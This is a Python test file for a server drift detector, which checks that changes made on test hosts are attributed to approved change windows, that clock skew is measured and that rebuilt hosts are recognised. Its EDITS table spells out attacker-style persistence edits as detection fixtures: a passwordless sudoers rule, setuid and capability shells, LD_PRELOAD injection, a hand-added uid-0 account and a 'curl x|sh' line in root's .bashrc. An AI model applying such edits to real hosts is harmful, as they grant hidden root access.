"""A real host that is changed: every edit is seen, inside and outside of an approved window (change.drift), by a wrong clock, and set up anew."""

from __future__ import annotations

import os
import time
from collections.abc import Iterable
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from itertools import pairwise

import pytest

from checks.servers.attribution import ChangePlace, Placed, placed
from checks.servers.comparing import read_view
from checks.servers.drift._kind import HostView
from checks.servers.drifted import KnownBy
from checks.servers.drifting import drift_between, probes
from checks.servers.gather import gather, parse_answer
from portalops.model.changes import ChangeKind, ChangeOrder
from portalops.ports import Completed
from portalops.system.clock import SystemClock
from tests.checks.servers.matrix import EXTRAS
from tests.hosts import Host, Hosts

pytestmark = [pytest.mark.hosts, pytest.mark.heavy]

PACKAGE = r"""
set -e
for v in 1 2 3 4; do
  install -d /srv/made/DEBIAN
  printf 'Package: portal-extra\nVersion: %s\nArchitecture: all\nMaintainer: An <an@example.vn>\nDescription: a test\n' $v >/srv/made/DEBIAN/control
  dpkg-deb -b /srv/made /srv/extra$v.deb >/dev/null
done
printf '[Service]\nExecStart=/bin/true\nType=oneshot\n[Install]\nWantedBy=multi-user.target\n' | tee /etc/systemd/system/one.service >/etc/systemd/system/two.service
echo old >/etc/portal.conf
apt-get -q -y install /srv/extra1.deb
ssh-keygen -q -t ed25519 -N '' -f /root/first; ssh-keygen -q -t ed25519 -N '' -f /root/second
install -d -m 700 /root/.ssh
"""
CHANGE = r"""
set -e
apt-get -q -y install /srv/extra{version}.deb
echo {name} >/etc/portal.conf
useradd {name}
systemctl enable {unit}.service
cat /root/{key}.pub >>/root/.ssh/authorized_keys
"""


@dataclass(frozen=True)
class Inside:
    """Runs the script on a host as root, by a clock that may be wrong."""

    host: Host
    clock: str = ""

    @property
    def address(self) -> str:
        return self.host.address

    def run_script(self, script: bytes, *, argument: str, deadline_seconds: float, limit_bytes: int) -> Completed:
        text = self.host.sh(f"{self.clock} sh -s {argument}", stdin=script, seconds=deadline_seconds)
        return Completed(0, os.fsencode(text), b"")


def looked(host: Host, clock: str = "") -> HostView:
    raw = gather(Inside(host, clock), tuple(probes().values()))
    return read_view(parse_answer(raw), datetime.now(UTC))


def order(name: str, begins: datetime, ends: datetime) -> ChangeOrder:
    approved = begins - timedelta(hours=1)
    return ChangeOrder(
        name,
        ChangeKind.NORMAL,
        begins,
        ends,
        1,
        notified_at=approved,
        notified_seq=2,
        approved_at=approved,
        approved_seq=3,
        began_at=begins,
    )


def by_name(found: Iterable[Placed]) -> dict[tuple[str, str], Placed]:
    return {(one.drifted.kind, one.drifted.name.partition(" ")[0]): one for one in found}


def wait_until(moment: datetime) -> None:
    """Let a real minute go by: windows have ends in real time."""
    time.sleep(max(0.0, (moment - SystemClock().now()).total_seconds()))


def test_what_is_changed_inside_and_outside_of_a_window_is_told_apart(hosts: Hosts) -> None:
    with hosts.started(13) as host:
        host.sh(PACKAGE)
        first = looked(host)
        wait_until(first.at + timedelta(seconds=2))  # the package manager writes whole seconds
        host.sh(CHANGE.format(version=2, name="inside", unit="one", key="first"))
        ends = datetime.now(UTC) + timedelta(seconds=7)
        wait_until(ends + timedelta(seconds=1))
        second = looked(host)
        wait_until(ends + timedelta(seconds=7))
        host.sh(CHANGE.format(version=3, name="outside", unit="two", key="second"))
        third = looked(host)
    begins = first.at - timedelta(hours=1)
    window = (order("CH-2026-001", begins, ends),)
    wide = (order("CH-2026-002", begins, third.at + timedelta(minutes=1)),)
    changed, later = (drift_between("portal", *looks) for looks in ((first, second), (second, third)))

    inside = by_name(placed(changed.changed, None, window, runs=changed.runs))
    outside = by_name(placed(later.changed, None, window, runs=later.runs))

    package = inside["package", "portal-extra"]
    assert (package.drifted.before, package.drifted.after, package.drifted.known_by) == ("1", "2", KnownBy.LOG)
    assert {name: one.place for name, one in inside.items()} == {
        ("package", "portal-extra"): ChangePlace.UNDER,
        ("file", "/etc/portal.conf"): ChangePlace.UNDER,
        ("file", "/etc/subuid"): ChangePlace.UNDER,
        ("file", "/etc/subgid"): ChangePlace.UNDER,
        ("account", "inside"): ChangePlace.UNDER,
        ("group", "inside"): ChangePlace.UNDER,
        ("password", "inside"): ChangePlace.UNDER,
        ("file", "/etc/gshadow"): ChangePlace.UNDER,
        ("file", "/root/.ssh/authorized_keys"): ChangePlace.UNDER,
        ("unit", "one.service"): ChangePlace.UNDER,
        ("key", "root"): ChangePlace.UNKNOWN,  # nobody knows when: the second look is after the window
    }
    assert {one.reference for one in inside.values()} == {"CH-2026-001"}
    assert {name: one.place for name, one in outside.items()} == {
        ("package", "portal-extra"): ChangePlace.OUTSIDE,
        ("file", "/etc/portal.conf"): ChangePlace.OUTSIDE,
        ("file", "/etc/subuid"): ChangePlace.OUTSIDE,
        ("file", "/etc/subgid"): ChangePlace.OUTSIDE,
        ("account", "outside"): ChangePlace.OUTSIDE,
        ("group", "outside"): ChangePlace.OUTSIDE,
        ("password", "outside"): ChangePlace.OUTSIDE,
        ("file", "/etc/gshadow"): ChangePlace.OUTSIDE,
        ("file", "/root/.ssh/authorized_keys"): ChangePlace.OUTSIDE,
        ("unit", "two.service"): ChangePlace.OUTSIDE,
        ("key", "root"): ChangePlace.UNKNOWN,
    }
    everything = (*placed(changed.changed, None, wide), *placed(later.changed, None, wide))
    assert {one.place for one in everything} == {ChangePlace.UNDER}


def test_clock_that_is_off_is_measured_and_taken_out(hosts: Hosts) -> None:
    fake = "faketime -f +3h"
    with hosts.started(13, more=EXTRAS[13]) as host:
        host.sh(PACKAGE)
        first = looked(host, fake)
        wait_until(first.at + timedelta(seconds=2))  # as above
        host.sh(f"{fake} apt-get -q -y install /srv/extra2.deb")
        second = looked(host, fake)
    found = drift_between("portal", first, second)
    window = (order("CH-2026-001", first.at - timedelta(hours=1), second.at + timedelta(minutes=1)),)

    (one,) = placed(found.changed, None, window)

    assert abs(one.drifted.ahead_seconds - 3 * 3600) <= 5
    assert one.drifted.happened_at is not None
    assert one.drifted.happened_at > second.at + timedelta(hours=2)
    assert (one.place, one.drifted.known_by) == (ChangePlace.UNDER, KnownBy.LOG)


def test_host_that_was_set_up_anew_under_its_name_is_named_once(hosts: Hosts) -> None:
    with hosts.started(13) as host:
        first = looked(host)
    with hosts.started(13) as host:
        host.sh("useradd someone; rm -f /etc/machine-id; systemd-machine-id-setup")
        host.new_host_key()
        second = looked(host)

    found = drift_between("portal", first, second)

    assert [(one.kind, one.name) for one in found.changed] == [("rebuilt", "portal")]
    assert found.unknown == ()


EDITS = {
    "a rule of sudo in a file with a secret's name": (
        "echo 'nobody ALL=(ALL) NOPASSWD: ALL' >/etc/sudoers.d/zz-secret; chmod 440 /etc/sudoers.d/zz-secret",
        {("file", "/etc/sudoers.d/zz-secret")},
    ),
    "a key that is exchanged": ("echo other >/etc/ssl/private/portal.key", {("file", "/etc/ssl/private/portal.key")}),
    "an environment of a service": (
        "echo LD_PRELOAD=/tmp/x.so >>/etc/default/portal.env",
        {("file", "/etc/default/portal.env")},
    ),
    "a mode alone": ("chmod 666 /etc/ssh/sshd_config", {("rights", "/etc/ssh/sshd_config")}),
    "an owner alone": ("chown nobody /usr/local/bin/portal-job", {("rights", "/usr/local/bin/portal-job")}),
    "the mode of a folder": ("chmod 777 /etc/profile.d", {("rights", "/etc/profile.d/")}),
    "a setuid shell": (
        "cp /bin/sh /srv/.hidden; chmod 4755 /srv/.hidden",
        {("privileged-file", "/srv/.hidden")},
    ),
    "capabilities": (
        "cp /bin/sh /opt/tool; setcap cap_setuid=ep /opt/tool",
        {("privileged-file", "/opt/tool (capabilities)")},
    ),
    "a line of root's shell": ("echo 'curl x|sh' >>/root/.bashrc", {("file", "/root/.bashrc")}),
    "root's authorized keys by an environment": ("echo x >>/root/.ssh/rc", {("file", "/root/.ssh/rc")}),
    "an account that came and went": (
        "useradd -M passing; userdel passing",
        {("passing-account", "passing")},
    ),
    "an account that came and went by hand": (
        "sed -i '$a hand:x:0:0::/:/bin/sh' /etc/passwd; sed -i '/^hand:/d' /etc/passwd",
        {("passing-account", "/etc/passwd")},
    ),
    "a password for an account that had none": (
        "echo 'games:Ph4p-luat!7' | chpasswd",
        {("password", "games")},
    ),
    "a unit file of no package": (
        "mkdir -p /usr/local/lib/systemd/system; printf '[Service]\\nExecStart=/bin/true\\n' >/usr/local/lib/systemd/system/x.service",
        {("file", "/usr/local/lib/systemd/system/x.service")},
    ),
    "a delivered unit file": (
        "echo '# x' >>/lib/systemd/system/ssh.service",
        {("file", "/lib/systemd/system/ssh.service")},
    ),
    "a link to another program": (
        "ln -sf /srv/.hidden /etc/alternatives/editor",
        {("file", "/etc/alternatives/editor")},
    ),
    "a certificate to be trusted": (
        "ln -s /srv/ca.pem /etc/ssl/certs/0a1b2c3d.0",
        {("file", "/etc/ssl/certs/0a1b2c3d.0")},
    ),
    "the mode of a table of cron": (
        "chmod 666 /var/spool/cron/crontabs/root",
        {("rights", "/var/spool/cron/crontabs/root")},
    ),
}
"""By what is edited: how, and each kind and name that must be told, and nothing else."""
HARMLESS = """
set -e
touch /root/.bash_history; echo ls >>/root/.bash_history; mkdir -p /root/.ssh; echo 'h ssh-ed25519 A' >>/root/.ssh/known_hosts
echo 'an:Mot-mat-khau.7' | chpasswd; echo x >/srv/data; cp /bin/true /srv/plain; cp /etc/login.defs /etc/login.new; cat /etc/login.new >/etc/login.defs
rm /etc/login.new; cat /etc/default/portal.env >/dev/null; id an >/dev/null; ldconfig; systemctl daemon-reload
"""


@pytest.mark.parametrize("release", [13, 12, 11])
def test_every_edit_is_told_and_what_is_none_is_not(hosts: Hosts, release: int) -> None:
    with hosts.started(release) as host:
        host.sh(
            "mkdir -p /etc/sudoers.d /etc/ssl/private /etc/ssl/certs /var/spool/cron/crontabs /root/.ssh; echo k >/etc/ssl/private/portal.key; "
            "echo A=1 >/etc/default/portal.env; echo true >/usr/local/bin/portal-job; echo '# x' >/var/spool/cron/crontabs/root; "
            "touch /root/.bashrc /etc/alternatives/none; ln -sf /bin/true /etc/alternatives/editor; useradd -m an; echo 'an:Mot-mat-khau.6' | chpasswd"
        )
        before = looked(host)
        time.sleep(1.1)
        host.sh(HARMLESS)
        views = [before, looked(host)]
        for script, _expected in EDITS.values():
            time.sleep(1.1)  # the kernel's own times are read in whole seconds
            host.sh(script)
            views.append(looked(host))
    told = [
        {
            (
                one.kind,
                one.name.removeprefix("/usr") if "/lib/systemd/" in one.name and "local" not in one.name else one.name,
            )
            for one in drift_between("portal", *pair).changed
        }
        for pair in pairwise(views)
    ]
    unknown = drift_between("portal", views[0], views[1]).unknown

    assert dict(zip(("harmless", *EDITS), told, strict=True)) == {
        "harmless": set(),
        **{name: expected for name, (_script, expected) in EDITS.items()},
    }
    assert {each.kind for each in unknown} == {"repository"}  # no list of packages was ever fetched there
